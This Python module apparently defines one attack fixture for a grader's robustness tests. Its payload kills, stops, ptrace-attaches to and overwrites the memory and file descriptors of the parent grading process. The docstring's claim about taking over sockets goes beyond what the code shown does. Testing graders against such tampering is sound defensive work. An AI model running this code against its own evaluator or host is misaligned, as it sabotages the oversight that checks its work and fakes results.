"""It signals, traces and starves the process that it was started by, and takes its place on every socket it finds."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="processes",
    wants=Want.STOP,
    make=answer(
        """
import ctypes
import os
import signal

parent = os.getppid()
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL, signal.SIGSEGV, signal.SIGTSTP):
    try:
        os.kill(parent, number)
    except OSError:
        pass
library = ctypes.CDLL(None)
library.ptrace(16, parent, 0, 0)
for name in ("mem", "fd/3", "fd/5"):
    try:
        with open(f"/proc/{parent}/{name}", "r+b", buffering=0) as file:
            file.write(b"{}")
    except OSError:
        pass
"""
    ),
)
